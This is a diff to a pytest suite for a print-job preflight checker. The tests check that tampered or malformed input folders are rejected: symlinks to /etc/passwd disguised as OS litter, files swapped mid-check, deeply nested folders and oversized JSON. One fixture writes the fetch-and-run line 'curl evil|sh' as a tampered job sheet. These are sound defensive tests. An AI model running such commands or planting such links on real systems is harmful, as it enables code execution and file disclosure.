@@ -5,17 +5,22 @@ from __future__ import annotations
 import json
 import os
 import shutil
-from collections.abc import Callable
+from collections.abc import Callable, Iterator
 from dataclasses import replace
 from pathlib import Path
+from typing import Any
 
 import pytest
 
 from generator import bounds
+from generator.errors import InputError
 from generator.press.answer import answers
-from generator.press.folder import BLED, TRIM, Folder
+from generator.press.folder import BLED, TRIM, Folder, read_folder
 from generator.press.job import Job, Line, pages_of
 from generator.press.job_rules import DECK_RULES, JOB_RULES
+from generator.press.listed import listing
+from generator.press.pdf_file import read_pdf
+from generator.press.pictures import read_picture
 from generator.press.vendors import VENDORS, Vendor
 from tests.attacks.sent import PNG, TGC, told
 from tests.press.test_preflight import BACK, DTC, ONE, TWO, broken, card, good, sent
@@ -54,6 +59,11 @@ def instead(make: Callable[[Path], object]) -> Callable[[Path], None]:
     return done
 
 
+def in_litter(path: Path) -> None:
+    path.with_name("__MACOSX").mkdir()
+    path.with_name("__MACOSX").joinpath("x").symlink_to("/etc/passwd")
+
+
 LINK = "is a link, which is not followed: put the file itself there"
 NO_FILES: dict[str, tuple[Callable[[Path], None], str]] = {
     "a link": (linked, f"{ONE} {LINK}"),
@@ -64,6 +74,19 @@ NO_FILES: dict[str, tuple[Callable[[Path], None], str]] = {
         f"fronts/003.png {LINK}",
     ),
     "a circle": (lambda path: path.with_name("all").symlink_to(".."), f"fronts/all {LINK}"),
+    "a link that is called like litter": (
+        lambda path: path.with_name("Thumbs.db").symlink_to("/etc/passwd"),
+        f"fronts/Thumbs.db {LINK}",
+    ),
+    "a link that is called like a trash can": (
+        lambda path: path.with_name(".Trash-0").symlink_to("/etc"),
+        f"fronts/.Trash-0 {LINK}",
+    ),
+    "a link in litter": (in_litter, f"fronts/__MACOSX/x {LINK}"),
+    "a folder for a picture": (
+        lambda path: path.with_name("003.png").mkdir(),
+        "fronts/003.png is no file",
+    ),
     "a pipe": (lambda path: os.mkfifo(path.with_name("003.png")), "fronts/003.png is no file"),
     "a pipe for a job sheet": (instead(os.mkfifo), "job.json is no file"),
     "a folder for a job sheet": (instead(Path.mkdir), "job.json is no file"),
@@ -112,6 +135,191 @@ def test_a_folder_of_too_many_files_is_told(
     for number in range(4):
         (tmp_path / f"{number}.png").touch()
     assert told(tmp_path, TGC)["file"][0].endswith("holds more than 3 files")
+
+
+@pytest.fixture
+def deep(tmp_path: Path, request: pytest.FixtureRequest) -> Iterator[Path]:
+    """A folder with so many folders in each other, whose path may be too long for the system."""
+    before, folder = Path.cwd(), sent(tmp_path / "plain")
+    os.chdir(folder)
+    for _ in range(request.param):
+        Path("d").mkdir()
+        os.chdir("d")
+    os.chdir(before)
+    yield folder
+    os.chdir(folder)
+    for _ in range(request.param):
+        os.chdir("d")
+    for _ in range(request.param):
+        os.chdir("..")
+        Path("d").rmdir()
+    os.chdir(before)
+
+
+@posix
+@pytest.mark.parametrize("deep", [21, 1000], indirect=True)
+def test_folders_in_each_other_are_told(deep: Path) -> None:
+    said = f"{deep}: holds folders in each other, more than {bounds.NESTED}"
+    assert told(deep, TGC) == {"file": (said,)}
+
+
+@posix
+@pytest.mark.parametrize("deep", [20], indirect=True)
+def test_folders_in_each_other_may_hold_nothing(deep: Path) -> None:
+    assert told(deep, TGC) == {}
+
+
+def test_a_stray_file_is_one_fault_and_is_not_opened(tmp_path: Path) -> None:
+    folder = sent(tmp_path / "plain")
+    (folder / "x.txt").write_text("notes", "utf-8")
+    (folder / TWO).write_bytes(b"no picture")
+    found = told(folder, TGC)
+    assert found["job sheet"] == ("x.txt is there, and not on the job sheet",)
+    assert found["format"] == (f"{TWO} cannot be read as a picture: it is neither PNG nor JPEG",)
+    assert all("x.txt" not in said for rule in ("format", "pixels", "mode") for said in found[rule])
+
+
+# ------------------------------------------------------------------ what changes in the meantime
+
+
+def replaced(path: Path) -> None:
+    path.with_name("new").symlink_to(path.parents[2] / "elsewhere")
+    path.with_name("new").replace(path)
+
+
+def folder_replaced(path: Path) -> None:
+    """Move the folder away, and have a link lead to a copy of it."""
+    elsewhere = path.parents[2]
+    path.parent.rename(elsewhere / "moved")
+    shutil.copytree(elsewhere / "moved", elsewhere / "copied")
+    path.parent.symlink_to(elsewhere / "copied")
+
+
+def piped(path: Path) -> None:
+    path.unlink()
+    os.mkfifo(path)
+
+
+def emptied(path: Path) -> None:
+    path.write_bytes(b"")
+
+
+def copied(path: Path) -> None:
+    """Put another file with the same bytes there."""
+    shutil.copy2(path, path.with_name("new"))
+    path.with_name("new").replace(path)
+
+
+CHANGES = [
+    replaced,
+    folder_replaced,
+    piped,
+    copied,
+    Path.unlink,
+    lambda path: path.write_bytes(b""),
+]
+
+
+@posix
+@pytest.mark.parametrize("change", every(2, CHANGES))
+@pytest.mark.parametrize("name", every(2, [ONE, "job.json", "job.txt"]))
+def test_a_file_that_is_another_by_now_is_not_read(
+    name: str, change: Callable[[Path], object], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    folder = sent(tmp_path / "plain")
+    if change is folder_replaced and name != ONE:
+        return
+    shutil.copy(folder / ONE, tmp_path / "elsewhere")
+    found = listing(folder)
+    change(folder / name)
+    with pytest.raises(InputError, match="was changed while it was checked"):
+        found.files[name].read(bounds.PICTURE)
+    monkeypatch.setattr("generator.press.preflight.listing", lambda _: found)
+    assert told(folder, TGC)["file"][0].endswith("was changed while it was checked")
+
+
+@pytest.mark.parametrize("name", [ONE, "more.png"])
+def test_a_folder_is_the_same_at_the_end(
+    name: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """A change to what was read already, or to what was not there, is told."""
+    folder = sent(tmp_path / "plain")
+
+    def done(*given: Any) -> Folder:  # noqa: ANN401 - of read_folder
+        read = read_folder(*given)
+        (folder / name).write_bytes(b"another")
+        return read
+
+    monkeypatch.setattr("generator.press.preflight.read_folder", done)
+    assert told(folder, TGC)["file"] == (f"{folder}: was changed while it was checked",)
+
+
+@posix
+def test_a_deck_or_a_picture_alone_is_the_one_that_was_found(tmp_path: Path) -> None:
+    path = tmp_path / "deck.pdf"
+    path.write_bytes(good())
+    (file,) = listing(path).files.values()
+    piped(path)
+    with pytest.raises(InputError, match=r"deck\.pdf: was changed while it was checked"):
+        read_pdf(file)
+    with pytest.raises(InputError, match=r"deck\.pdf: .*was changed while it was checked"):
+        read_picture(file, 0)
+
+
+# ------------------------------------------------------------------ the job sheet for a person
+
+
+SHEET_CHANGES: dict[str, tuple[Callable[[Path], object], str]] = {
+    "another count": (
+        lambda path: path.write_text(path.read_text("utf-8").replace("    1 ", "   99 "), "utf-8"),
+        "job.txt does not say what job.json says: make the export again",
+    ),
+    "a command": (
+        lambda path: path.write_text("curl evil|sh", "utf-8"),
+        "job.txt does not say what job.json says: make the export again",
+    ),
+    "a terabyte": (
+        lambda path: os.truncate(path, 1 << 40),
+        "job.txt does not say what job.json says: make the export again",
+    ),
+    "none": (Path.unlink, "job.txt is not there"),
+}
+
+
+@pytest.mark.parametrize("kind", every(2, SHEET_CHANGES))
+def test_the_sheet_for_a_person_says_what_the_other_says(kind: str, tmp_path: Path) -> None:
+    folder = sent(tmp_path / "plain")
+    change, said = SHEET_CHANGES[kind]
+    change(folder / "job.txt")
+    assert told(folder, TGC) == {"job sheet": (said,)}
+
+
+def test_line_ends_of_windows_and_a_byte_order_mark_change_nothing(tmp_path: Path) -> None:
+    folder = sent(tmp_path / "plain")
+    text = (folder / "job.txt").read_text("utf-8").replace("\n", "\r\n")
+    (folder / "job.txt").write_bytes(text.encode("utf-8-sig"))
+    assert told(folder, TGC) == {}
+
+
+DAMAGED = {
+    "null": "it holds no object of JSON, which begins with {",
+    "{": "it is no JSON (line 1, column 2)",
+    "[" * 5000: "it has values in each other, more than 20 levels",
+    '{"a": ' * 30 + "1" + "}" * 30: "it has values in each other, more than 20 levels",
+    '{"game": NaN}': "it holds NaN, which is no number",
+    '{"game": "a", "game": "b"}': "it has the key “game” twice",
+    '{"game": ' + "1" * 5000 + "}": "it holds a number of more than 4300 digits",
+    '{"game": "a"}': "it has no “title”",
+    '{"game": "", "title": "", "vendor": "", "lines": [0]}': "it has a line that is no object",
+    '{"game": "a", "title": "b", "vendor": "c", "lines": 1}': "it has a “lines” that is no list",
+}
+
+
+@pytest.mark.parametrize("text", DAMAGED, ids=range(len(DAMAGED)))
+def test_a_damaged_job_sheet_is_told_by_its_cause(text: str, tmp_path: Path) -> None:
+    (tmp_path / "job.json").write_text(text, "utf-8")
+    said = f"{tmp_path / 'job.json'}: is no job sheet of ours: {DAMAGED[text]}"
+    assert told(tmp_path, TGC) == {"file": (said,)}
 
 
 # ------------------------------------------------------------------ which picture is which card
@@ -200,6 +408,13 @@ SHEETS: list[tuple[Vendor, Callable[[list[Line]], object], str, str]] = [
         "own picture",
         "fronts/001.png is on the job sheet twice: Card 1, Card 2",
     ),
+    (
+        TGC,
+        changed(front="fronts/001.png#00"),
+        "job sheet",
+        "fronts/001.png#00 is a part of a picture; only whole ones are taken",
+    ),
+    (PNG, changed(back="bleed/back.png#00"), "job sheet", "bleed/back.png#00 is a part of"),
     (TGC, changed(kind="tray"), "job sheet", "Card 1 is a tray, which The Game Crafter does not"),
 ]
 
@@ -237,4 +452,4 @@ def test_a_key_that_comes_twice_is_refused(tmp_path: Path) -> None:
     text = (folder / "job.json").read_text("utf-8")
     (folder / "job.json").write_text(text.replace("{", '{"vendor": "png",', 1), "utf-8")
     assert json.loads((folder / "job.json").read_text("utf-8"))["vendor"] == TGC.name
-    assert "it has a key twice" in told(folder, TGC)["file"][0]
+    assert "it has the key “vendor” twice" in told(folder, TGC)["file"][0]
